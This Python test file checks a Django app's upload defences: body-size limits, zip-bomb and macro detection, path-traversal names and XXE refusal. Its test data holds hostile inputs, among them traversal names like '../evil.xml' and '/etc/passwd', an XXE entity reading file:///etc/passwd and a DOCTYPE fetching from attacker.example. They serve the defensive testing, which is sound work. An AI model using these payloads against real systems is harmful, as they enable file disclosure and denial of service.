"""Uploads checked before anything parses them (issue 16): the request body
limit, the Office files' zip check, defusedxml at start-up, and the hostile
upload corpus (tests/hostile_uploads.py) refused with nothing stored."""

import io
import os
import re
import tracemalloc
import xml.etree.ElementTree as ElementTree
import zipfile
from pathlib import Path

import openpyxl
import pytest
from defusedxml import DefusedXmlException
from django.core.exceptions import ImproperlyConfigured, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from guazhi import uploads
from guazhi.uploads import check_office_zip, defuse_xml
from records import attachments
from records.models import Attachment, Report
from tests import hostile_uploads as hostile
from tests.cadres.files import DOCX_BYTES, PDF_BYTES, XLSX_BYTES
from tests.conftest import form_errors

BASE_DIR = Path(__file__).resolve().parent.parent
MAX_PEAK_BYTES = 50 * 1024 * 1024


def _report_url(world) -> str:
    return reverse("cadres:report_create", args=[world.a.posting.pk])


def _form(upload=None) -> dict:
    data = {"kind": "semiannual", "title": "记住我", "body": "主要工作如下。"}
    if upload is not None:
        data["upload"] = upload
    return data


def _stored_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def _nothing_stored(settings) -> None:
    assert not Report.objects.exists()
    assert not Attachment.objects.exists()
    assert _stored_files(settings) == []


class NeverRead:
    """A request body that fails the test if anything reads it."""

    def read(self, *args):
        raise AssertionError("the request body was read")

    readline = read

    def __iter__(self):
        raise AssertionError("the request body was read")


# --- The hostile corpus, through the page -------------------------------------


def _warm(client, world):
    """(client, the report page's URL), the page rendered once: the memory
    measured next is the request's, not that of importing the views."""
    url = _report_url(world)
    assert client.get(url).status_code == 200
    return client, url


@pytest.mark.parametrize("case", list(hostile.CORPUS))
def test_each_hostile_upload_is_refused_with_nothing_stored_in_little_memory(
    login, cadre_user, world, settings, case
):
    item = hostile.CORPUS[case]
    data = item.build()
    client, url = _warm(login(cadre_user), world)
    tracemalloc.start()
    try:
        response = client.post(url, _form(SimpleUploadedFile(item.name, data)))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert response.status_code == 200
    assert item.message in form_errors(response)
    assert 'value="记住我"' in response.content.decode()  # the form keeps the input
    _nothing_stored(settings)
    assert peak < MAX_PEAK_BYTES, f"{case}: peak {peak / 1e6:.1f} MB"


def test_an_oversized_body_is_refused_unread(login, cadre_user, world, settings):
    """200 MB declared, a few bytes sent: answered from the length alone."""
    client, url = _warm(login(cadre_user), world)
    tracemalloc.start()
    try:
        response = client.generic(
            "POST",
            url,
            b"--x--",
            content_type="multipart/form-data; boundary=x",
            CONTENT_LENGTH=str(200 * 1024 * 1024),
            **{"wsgi.input": NeverRead()},
        )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert response.status_code == 413
    text = response.content.decode()
    assert "上传的内容过大" in text
    assert "不能超过 21 MB" in text
    assert response["X-Content-Type-Options"] == "nosniff"
    _nothing_stored(settings)
    assert peak < MAX_PEAK_BYTES


def test_an_anonymous_oversized_body_is_refused_unread_too(client, settings):
    response = client.generic(
        "POST",
        reverse("login"),
        b"",
        content_type="application/x-www-form-urlencoded",
        CONTENT_LENGTH=str(settings.GUAZHI_MAX_REQUEST_BYTES + 1),
        **{"wsgi.input": NeverRead()},
    )
    assert response.status_code == 413


def test_a_body_without_a_length_is_refused(login, cadre_user, world, settings):
    response = login(cadre_user).generic(
        "POST",
        _report_url(world),
        b"",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH="",
        HTTP_TRANSFER_ENCODING="chunked",
        **{"wsgi.input": NeverRead()},
    )
    assert response.status_code == 411
    assert "请求缺少长度" in response.content.decode()
    _nothing_stored(settings)


def test_a_body_up_to_the_limit_is_read(login, cadre_user, world, settings):
    settings.GUAZHI_MAX_REQUEST_BYTES = 4096
    client = login(cadre_user)
    fits = client.post(
        _report_url(world), _form(SimpleUploadedFile("汇报.pdf", PDF_BYTES))
    )
    assert fits.status_code == 302
    assert Attachment.objects.count() == 1
    too_long = client.post(
        _report_url(world),
        _form(SimpleUploadedFile("汇报.pdf", PDF_BYTES + b"0" * 4096)),
    )
    assert too_long.status_code == 413
    assert Attachment.objects.count() == 1


def test_the_body_limit_is_the_attachment_limit_and_a_megabyte_as_in_nginx():
    from guazhi import settings as project

    assert project.GUAZHI_MAX_REQUEST_BYTES == project.ATTACHMENT_MAX_BYTES + 2**20
    conf = (BASE_DIR / "deploy" / "nginx.conf").read_text()
    nginx_mb = int(re.search(r"client_max_body_size\s+(\d+)m;", conf).group(1))
    assert nginx_mb * 2**20 == project.GUAZHI_MAX_REQUEST_BYTES
    middleware = project.MIDDLEWARE
    limit = middleware.index("guazhi.bodylimit.RequestBodyLimitMiddleware")
    for reader in (
        "django.middleware.csrf.CsrfViewMiddleware",
        "guazhi.cleaning.StripControlCharsMiddleware",
        "django.contrib.sessions.middleware.SessionMiddleware",
    ):
        assert limit < middleware.index(reader)


def test_an_office_file_spooled_to_disk_is_checked_and_stored(
    login, cadre_user, world, settings
):
    """Above FILE_UPLOAD_MAX_MEMORY_SIZE the upload is a temporary file."""
    photo = os.urandom(settings.FILE_UPLOAD_MAX_MEMORY_SIZE + 1024)
    data = hostile.docx(**{"word/media/image1.png": photo})
    assert len(data) > settings.FILE_UPLOAD_MAX_MEMORY_SIZE
    response = login(cadre_user).post(
        _report_url(world), _form(SimpleUploadedFile("调研报告.docx", data))
    )
    assert response.status_code == 302
    assert [p.read_bytes() for p in _stored_files(settings)] == [data]


# --- Images and polyglots are served as checked downloads -----------------------


def test_an_image_carrying_html_is_served_only_as_a_download_of_its_type(
    login, cadre_user, home_a, world
):
    data = hostile.png_with_script()
    response = login(cadre_user).post(
        _report_url(world), _form(SimpleUploadedFile("合影.png", data))
    )
    assert response.status_code == 302
    attachment = Attachment.objects.get()
    download = login(home_a).get(attachment.get_absolute_url())
    assert download["Content-Type"] == "image/png"
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == data


# --- check_office_zip ------------------------------------------------------------


def _check(data: bytes):
    check_office_zip(io.BytesIO(data))


def _code(data: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        _check(data)
    return refused.value.code


def test_honest_office_files_pass_and_stay_at_their_start():
    for data in (DOCX_BYTES, XLSX_BYTES, hostile.docx()):
        handle = io.BytesIO(data)
        check_office_zip(handle)
        assert handle.tell() == 0


def test_a_real_workbook_of_some_size_passes():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in range(2000):
        sheet.append([f"干部{row}", row, "江东省某某县某某镇", row * 1.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    _check(buffer.getvalue())


def test_one_member_inflating_too_far_is_a_zip_bomb():
    # 50 MB of zeros: below the total limit, a thousand times its compressed size.
    data = hostile.inflating("word/media/image1.png", 50 * 1024 * 1024)
    assert _code(data) == "ratio"


def test_a_highly_compressible_small_member_is_no_bomb():
    _check(
        hostile.docx(**{"word/styles.xml": "<styles>" + " " * 500_000 + "</styles>"})
    )


def test_sizes_that_lie_are_caught_by_the_crc():
    data = bytearray(hostile.inflating("word/media/image1.png", 2 * 1024 * 1024))
    # Declare 1,000 bytes in the central directory entry of the big member.
    entry = data.rfind(b"PK\x01\x02")
    assert data[entry + 46 : entry + 46 + 21] == b"word/media/image1.png"
    data[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
    assert _code(bytes(data)) == "corrupt"


def test_too_many_members_are_refused_before_the_directory_is_read(monkeypatch):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", hostile.CONTENT_TYPES)
        for n in range(uploads.MAX_MEMBERS):
            archive.writestr(f"word/media/{n}.png", b"")
    opened = []
    monkeypatch.setattr(
        uploads.zipfile, "ZipFile", lambda *a, **k: opened.append(a) or 1 / 0
    )
    assert _code(buffer.getvalue()) == "too_many_members"
    assert opened == []


@pytest.mark.parametrize(
    "name",
    [
        "../evil.xml",
        "word/../../evil.xml",
        "/etc/passwd",
        "..\\..\\evil.xml",
        "word\\document2.xml",
        "C:/Windows/evil.xml",
        "word/evil\x07.xml",
    ],
)
def test_names_that_leave_their_folder_are_refused(name):
    assert _code(hostile.docx(**{name: "<x/>"})) == "unsafe_name"


def test_a_name_twice_is_refused():
    assert _code(hostile.docx(**{"WORD/document.xml": "<x/>"})) == "duplicate_name"


def test_macros_are_refused_by_their_part_or_their_declared_type():
    assert _code(hostile.macro_workbook()) == "macro"
    vba_only = hostile.docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    assert _code(vba_only) == "macro"
    types_only = hostile.docx(**{"[Content_Types].xml": hostile.MACRO_TYPES})
    assert _code(types_only) == "macro"


def test_a_macro_workbook_named_xlsm_is_refused_by_its_name_already():
    upload = SimpleUploadedFile("预算.xlsm", hostile.macro_workbook())
    with pytest.raises(ValidationError) as refused:
        attachments.check_upload(upload)
    assert refused.value.code == "extension_mismatch"


def test_a_dtd_in_any_xml_part_is_refused_whatever_its_encoding():
    assert _code(hostile.xxe()) == "xml_doctype"
    assert _code(hostile.billion_laughs()) == "xml_doctype"
    utf16 = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'
    ).encode("utf-16")
    assert _code(hostile.docx(**{"word/document.xml": utf16})) == "xml_doctype"
    in_rels = (
        '<!DOCTYPE Relationships SYSTEM "http://attacker.example/x.dtd">'
        + (hostile.RELS.split("?>", 1)[1])
    )
    assert _code(hostile.docx(**{"_rels/.rels": in_rels})) == "xml_doctype"


def test_an_encrypted_or_oddly_compressed_member_is_refused():
    data = bytearray(hostile.docx())
    entry = data.find(b"PK\x01\x02")
    data[entry + 8] |= 0x1  # the "encrypted" flag of the first member
    assert _code(bytes(data)) == "encrypted"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", hostile.CONTENT_TYPES)
        archive.writestr("word/document.xml", "<x/>", zipfile.ZIP_BZIP2)
    assert _code(buffer.getvalue()) == "compression"


def _claiming_zip64(data: bytes) -> bytes:
    """`data` whose end record sends a reader to a Zip64 record that is not there."""
    data = bytearray(data)
    end = data.rfind(b"PK\x05\x06")
    data[end + 10 : end + 12] = b"\xff\xff"  # the member count: "see Zip64"
    return bytes(data)


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04 not really a zip",
        DOCX_BYTES[: len(DOCX_BYTES) // 2],
        hostile.rezip(DOCX_BYTES, {}).replace(
            b"[Content_Types].xml", b"[Content_Types].xmm"
        ),
        hostile.docx(**{"word/document.xml": "<unclosed"}),
        _claiming_zip64(DOCX_BYTES),
    ],
    ids=["no-end-record", "truncated", "no-content-types", "broken-xml", "zip64-lie"],
)
def test_what_does_not_hold_together_is_refused_as_damaged(data):
    assert _code(data) == "corrupt"


# --- defusedxml in force ------------------------------------------------------


def test_defusedxml_is_in_force_after_start_up():
    assert openpyxl.DEFUSEDXML is True
    probe = '<!DOCTYPE x [<!ENTITY e "expanded">]><x>&e;</x>'
    with pytest.raises(DefusedXmlException):
        # The standard library's name on purpose: it must refuse now.
        ElementTree.fromstring(probe)  # noqa: S314


def test_start_up_fails_when_openpyxl_would_parse_without_defusedxml(monkeypatch):
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(ImproperlyConfigured, match="defusedxml"):
        defuse_xml()


def test_openpyxl_never_reads_an_external_entity(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-42")
    try:
        workbook = openpyxl.load_workbook(io.BytesIO(hostile.xxe(str(secret))))
    except DefusedXmlException:
        return
    values = [c.value for row in workbook.active.iter_rows() for c in row]
    assert "TOP-SECRET-42" not in " ".join(str(v) for v in values)
